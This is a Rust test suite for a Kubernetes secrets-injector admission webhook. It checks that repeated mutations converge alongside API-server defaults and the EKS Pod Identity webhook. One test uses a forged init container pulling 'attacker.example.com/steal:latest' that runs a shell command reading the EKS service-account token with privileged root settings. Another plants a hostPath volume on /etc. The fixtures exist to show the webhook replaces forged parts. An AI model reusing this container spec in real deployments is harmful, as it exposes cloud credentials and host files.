//! Convergence: the webhook recognises its parts by name, sets what it owns to its current values,
//! leaves what the API server defaults, and after another webhook changed the pod adds only what
//! is missing.

use crate::support::mutate::*;
use json_patch::PatchOperation;
use serde_json::{Value, json};

/// The operations as (op, path) pairs, for asserting what a patch touches.
fn ops(
    pod: &Value,
    cfg: &secrets_injector_webhook::mutation::MutationConfig,
) -> Vec<(String, String)> {
    let (patch, _) = patch_of(pod, cfg);
    patch
        .0
        .iter()
        .map(|op| {
            let name = match op {
                PatchOperation::Add(_) => "add",
                PatchOperation::Remove(_) => "remove",
                PatchOperation::Replace(_) => "replace",
                PatchOperation::Move(_) => "move",
                PatchOperation::Copy(_) => "copy",
                PatchOperation::Test(_) => "test",
            };
            (name.to_owned(), op.path().to_string())
        })
        .collect()
}

fn pairs(expected: &[(&str, &str)]) -> Vec<(String, String)> {
    expected
        .iter()
        .map(|(op, path)| ((*op).to_owned(), (*path).to_owned()))
        .collect()
}

#[test]
fn every_fixture_converges_after_one_mutation() {
    for name in [
        "eks-irsa-pod.json",
        "pod-identity-pod.json",
        "minimal-pod.yaml",
        "sidecars-pod.yaml",
        "seeds-example-pod.yaml",
    ] {
        let (out, _) = mutated(&fixture(name), &cfg());
        assert_converged(&out, &cfg());
    }
}

/// What the API server does to the mutated pod before the next webhook call: defaults and
/// canonical quantities.
fn as_the_api_server_stores_it(pod: &mut Value) {
    let init = pod["spec"]["initContainers"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|c| c["name"] == "secrets-injector")
        .unwrap();
    init["imagePullPolicy"] = json!("IfNotPresent");
    init["terminationMessagePath"] = json!("/dev/termination-log");
    init["securityContext"]["procMount"] = json!("Default");
    init["resources"]["limits"]["cpu"] = json!("0.2");
    let volume = pod["spec"]["volumes"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|v| v["name"] == "secrets-injector")
        .unwrap();
    volume["emptyDir"]["sizeLimit"] = json!("16384Ki");
}

#[test]
fn api_server_defaults_are_left_alone() {
    let (mut out, _) = mutated(&fixture("eks-irsa-pod.json"), &cfg());
    as_the_api_server_stores_it(&mut out);
    assert_converged(&out, &cfg());
}

#[test]
fn request_defaulted_from_limit_is_the_same_resources() {
    let mut pod = fixture("minimal-pod.yaml");
    annotate(
        &mut pod,
        &[(
            "secrets-injector.io/injector-resources",
            "limits: {cpu: 100m, memory: 64Mi}",
        )],
    );
    let (mut out, _) = mutated(&pod, &cfg());
    let init = out["spec"]["initContainers"][0].as_object_mut().unwrap();
    init["resources"]["requests"] = json!({"cpu": "100m", "memory": "64Mi"});
    assert_converged(&out, &cfg());
}

#[test]
fn a_forged_init_container_becomes_the_current_one() {
    let pod = fixture("eks-irsa-pod.json");
    let (expected, _) = mutated(&pod, &cfg());
    let mut forged = pod.clone();
    forged["spec"]["initContainers"] = json!([{
        "name": "secrets-injector",
        "image": "attacker.example.com/steal:latest",
        "command": ["/bin/sh", "-c", "cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token"],
        "envFrom": [{"secretRef": {"name": "other"}}],
        "restartPolicy": "Always",
        "workingDir": "/",
        "stdin": true,
        "securityContext": {"privileged": true, "runAsUser": 0},
        "volumeMounts": [{"name": "aws-iam-token", "mountPath": "/t"}],
        "imagePullPolicy": "Always",
        "terminationMessagePath": "/dev/termination-log"
    }]);
    let (out, _) = mutated(&forged, &cfg());
    let mut current = injector(&expected).clone();
    // Only the defaulted fields survive from the forged container.
    current["imagePullPolicy"] = json!("Always");
    current["terminationMessagePath"] = json!("/dev/termination-log");
    assert_eq!(injector(&out), &current);
    assert_eq!(list(&out, "initContainers").len(), 1);
    assert_converged(&out, &cfg());
    validate(&[("forged", &out)]);
}

#[test]
fn a_pod_from_an_older_inject_gets_the_current_settings() {
    let pod = fixture("eks-irsa-pod.json");
    let (old, _) = mutated(&pod, &cfg());
    let mut newer = cfg();
    newer.injector_image = "public.ecr.aws/example/secrets-injector:0.2.0".to_owned();
    newer.volume_size_limit = "8Mi".parse().unwrap();
    assert_eq!(
        ops(&old, &newer),
        pairs(&[
            ("replace", "/spec/volumes/2"),
            ("replace", "/spec/initContainers/0/image"),
        ])
    );
    let (out, _) = mutated(&old, &newer);
    assert_eq!(injector(&out)["image"], newer.injector_image);
    assert_eq!(
        named(&out, "volumes", "secrets-injector")["emptyDir"]["sizeLimit"],
        "8Mi"
    );
    assert_converged(&out, &newer);
}

#[test]
fn a_pod_with_two_word_injector_flags_gets_flag_equals_value_words() {
    let (mut old, _) = mutated(&fixture("minimal-pod.yaml"), &cfg());
    let args = injector(&old)["args"].clone();
    let two_words: Vec<Value> = args
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|arg| {
            let (flag, value) = arg.as_str().unwrap().split_once('=').unwrap();
            [json!(flag), json!(value)]
        })
        .collect();
    let at = list(&old, "initContainers")
        .iter()
        .position(|c| c["name"] == "secrets-injector")
        .unwrap();
    old["spec"]["initContainers"][at]["args"] = Value::Array(two_words);
    assert_eq!(
        ops(&old, &cfg()),
        pairs(&[("replace", &format!("/spec/initContainers/{at}/args"))])
    );
    let (out, _) = mutated(&old, &cfg());
    assert_eq!(injector(&out)["args"], args);
    assert_converged(&out, &cfg());
}

#[test]
fn a_changed_mount_path_moves_every_mount() {
    let (mut out, _) = mutated(&fixture("sidecars-pod.yaml"), &cfg());
    annotate(
        &mut out,
        &[("secrets-injector.io/mount-path", "/run/secrets/payments")],
    );
    let (out, _) = mutated(&out, &cfg());
    for key in ["containers", "initContainers"] {
        for container in list(&out, key) {
            if let Some(mount) = own_mount(container) {
                assert_eq!(
                    mount["mountPath"], "/run/secrets/payments",
                    "{}",
                    container["name"]
                );
            }
        }
    }
    assert_eq!(
        injector(&out)["args"][0],
        "--mount-path=/run/secrets/payments"
    );
    assert_converged(&out, &cfg());
}

#[test]
fn a_foreign_volume_named_like_the_webhooks_is_replaced() {
    let mut pod = fixture("minimal-pod.yaml");
    pod["spec"]["volumes"] = json!([{"name": "secrets-injector", "hostPath": {"path": "/etc"}}]);
    let (out, _) = mutated(&pod, &cfg());
    assert_eq!(
        list(&out, "volumes"),
        [
            json!({"name": "secrets-injector", "emptyDir": {"medium": "Memory", "sizeLimit": "16Mi"}})
        ]
    );
}

#[test]
fn a_stale_mount_of_the_webhooks_volume_is_replaced_not_duplicated() {
    let mut pod = fixture("minimal-pod.yaml");
    pod["spec"]["volumes"] = json!([{"name": "secrets-injector", "emptyDir": {}}]);
    pod["spec"]["containers"][0]["volumeMounts"] =
        json!([{"name": "secrets-injector", "mountPath": "/old", "subPath": "x"}]);
    let (out, _) = mutated(&pod, &cfg());
    assert_eq!(
        out["spec"]["containers"][0]["volumeMounts"],
        json!([{"name": "secrets-injector", "mountPath": "/mnt/secrets-store", "readOnly": true}])
    );
}

#[test]
fn reinvocation_adds_a_mount_for_a_container_added_since() {
    let mut pod = fixture("eks-irsa-pod.json");
    annotate(
        &mut pod,
        &[("secrets-injector.io/containers", "web,istio-proxy")],
    );
    let (mut out, warnings) = mutated(&pod, &cfg());
    assert_eq!(
        warnings.len(),
        1,
        "istio-proxy is not there yet: {warnings:?}"
    );
    // Another webhook adds the container named in the annotation.
    out["spec"]["containers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "istio-proxy", "image": "istio/proxyv2:1.24.0", "args": ["proxy", "sidecar"]}));
    assert_eq!(
        ops(&out, &cfg()),
        pairs(&[("add", "/spec/containers/1/volumeMounts")])
    );
    let (out, warnings) = mutated(&out, &cfg());
    assert!(warnings.is_empty(), "{warnings:?}");
    assert!(own_mount(named(&out, "containers", "istio-proxy")).is_some());
    assert_converged(&out, &cfg());
}

/// What the EKS Pod Identity webhook does to a pod: env, a projected token volume and its mount,
/// in every container (ours included when it is already there).
fn add_pod_identity(pod: &mut Value, include_injector: bool) {
    pod["spec"]["volumes"].as_array_mut().unwrap().push(json!({
        "name": "eks-pod-identity-token",
        "projected": {"sources": [{"serviceAccountToken": {"audience": "pods.eks.amazonaws.com", "expirationSeconds": 86400, "path": "eks-pod-identity-token"}}], "defaultMode": 420}
    }));
    for key in ["initContainers", "containers"] {
        for container in pod["spec"][key].as_array_mut().unwrap() {
            if container["name"] == "secrets-injector" && !include_injector {
                continue;
            }
            let env = container
                .as_object_mut()
                .unwrap()
                .entry("env")
                .or_insert_with(|| json!([]));
            env.as_array_mut().unwrap().extend([
                json!({"name": "AWS_CONTAINER_CREDENTIALS_FULL_URI", "value": "http://169.254.170.23/v1/credentials"}),
                json!({"name": "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "value": "/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token"}),
            ]);
            let mounts = container
                .as_object_mut()
                .unwrap()
                .entry("volumeMounts")
                .or_insert_with(|| json!([]));
            mounts.as_array_mut().unwrap().push(json!({
                "name": "eks-pod-identity-token", "readOnly": true, "mountPath": "/var/run/secrets/pods.eks.amazonaws.com/serviceaccount"
            }));
        }
    }
}

#[test]
fn reinvocation_copies_identity_env_that_appeared_since() {
    let (mut out, _) = mutated(&fixture("seeds-example-pod.yaml"), &cfg());
    add_pod_identity(&mut out, false);
    assert_eq!(
        ops(&out, &cfg()),
        pairs(&[
            ("replace", "/spec/initContainers/0/env"),
            ("replace", "/spec/initContainers/0/volumeMounts"),
        ])
    );
    let (out, _) = mutated(&out, &cfg());
    let init = injector(&out);
    let names: Vec<&str> = init["env"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "AWS_REGION",
            "AWS_CONTAINER_CREDENTIALS_FULL_URI",
            "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE"
        ]
    );
    assert_eq!(init["volumeMounts"][1]["name"], "eks-pod-identity-token");
    assert_converged(&out, &cfg());
    validate(&[("reinvoked", &out)]);
}

#[test]
fn reinvocation_after_the_identity_webhook_changed_our_container_too_changes_nothing() {
    let (mut out, _) = mutated(&fixture("seeds-example-pod.yaml"), &cfg());
    add_pod_identity(&mut out, true);
    assert_converged(&out, &cfg());
}

#[test]
fn identity_webhook_running_first_is_the_same_as_running_after() {
    let mut first = fixture("seeds-example-pod.yaml");
    first["spec"]["volumes"] = json!([]);
    first["spec"]["initContainers"] = json!([]);
    add_pod_identity(&mut first, false);
    let (identity_first, _) = mutated(&first, &cfg());

    let mut later = fixture("seeds-example-pod.yaml");
    later["spec"]["volumes"] = json!([]);
    later["spec"]["initContainers"] = json!([]);
    let (mut later, _) = mutated(&later, &cfg());
    add_pod_identity(&mut later, true);
    let (later, _) = mutated(&later, &cfg());
    assert_eq!(injector(&identity_first), injector(&later));
}

#[test]
fn reinvocation_moves_the_init_container_back_to_first() {
    let (mut out, _) = mutated(&fixture("sidecars-pod.yaml"), &cfg());
    out["spec"]["initContainers"]
        .as_array_mut()
        .unwrap()
        .insert(0, json!({"name": "istio-init", "image": "istio/proxyv2:1.24.0", "args": ["istio-iptables"]}));
    assert_eq!(
        ops(&out, &cfg()),
        pairs(&[("move", "/spec/initContainers/0")])
    );
    let (out, _) = mutated(&out, &cfg());
    let names: Vec<&str> = list(&out, "initContainers")
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["secrets-injector", "istio-init", "migrate", "envoy"]
    );
    // The named init containers keep their mounts after the move.
    assert!(own_mount(named(&out, "initContainers", "migrate")).is_some());
    assert_converged(&out, &cfg());
}

#[test]
fn init_first_false_leaves_the_init_container_where_it_is() {
    let mut pod = fixture("sidecars-pod.yaml");
    annotate(&mut pod, &[("secrets-injector.io/init-first", "false")]);
    let (mut out, _) = mutated(&pod, &cfg());
    out["spec"]["initContainers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "late", "image": "busybox"}));
    assert_converged(&out, &cfg());
}
